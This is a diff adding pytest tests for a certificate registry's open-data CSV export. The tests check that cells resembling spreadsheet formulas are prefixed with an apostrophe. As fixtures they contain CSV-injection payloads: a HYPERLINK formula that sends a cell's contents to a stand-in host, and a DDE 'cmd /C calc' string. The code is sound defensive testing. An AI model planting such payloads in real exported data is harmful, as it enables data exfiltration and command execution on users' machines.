@@ -4,8 +4,11 @@ import csv
 import datetime as dt
 import io
 
+import pytest
+
 from ocop.certificates import services
 from ocop.certificates.tests.conftest import issue, office  # noqa: F401
+from ocop.reporting.opendata import csv_cell
 
 
 def _csv(client):
@@ -58,3 +61,35 @@ def test_the_dataset_is_described_with_dcat(office, client, time_machine):  # no
     page = client.get("/open-data/")
     assert page.status_code == 200 and "1 giấy chứng nhận" in page.content.decode()
     assert client.get("/open-data/certificates.xml").status_code == 404
+
+
+def test_text_that_excel_would_run_as_a_formula_is_quoted_in_the_csv_only(office, client, time_machine):  # noqa: F811
+    from ocop.certificates.models import Decision
+    from ocop.testing import make_producer, make_product
+
+    time_machine.move_to(dt.datetime(2026, 1, 10, 9, tzinfo=dt.UTC))
+    producer = make_producer(name='=HYPERLINK("http://x.example/?"&A1,"Xem")')
+    product = make_product(producer=producer, name="+1+cmd|' /C calc'!A0")
+    cert = issue(office, product=product, number="-2+3/QĐ-UBND")
+    Decision.objects.filter(pk=cert.decision_id).update(issuing_body="@SUM(1+1)")
+    response = client.get("/open-data/certificates.csv")
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    assert text.splitlines()[1] == (
+        f'01-2025-00001,{cert.code},\'+1+cmd|\' /C calc\'!A0,"\'=HYPERLINK(""http://x.example/?""&A1,""Xem"")",'
+        "Xã Bát Tràng,Thành phố Hà Nội,4,2025-11-20,2028-11-20,valid,'-2+3/QĐ-UBND,'@SUM(1+1)"
+    )
+    import json
+
+    item = json.loads(b"".join(client.get("/open-data/certificates.json").streaming_content))["items"][0]
+    assert (item["product"], item["producer"], item["decision"], item["issuing_body"]) == (
+        "+1+cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"Xem")', "-2+3/QĐ-UBND", "@SUM(1+1)",
+    )  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [("=1+1", "'=1+1"), ("+84 24", "'+84 24"), ("-5", "'-5"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
+     ("Bình = gốm", "Bình = gốm"), ("", ""), (4, 4)],
+)  # fmt: skip
+def test_a_csv_cell_opening_like_a_formula_gets_an_apostrophe(value, written):
+    assert csv_cell(value) == written
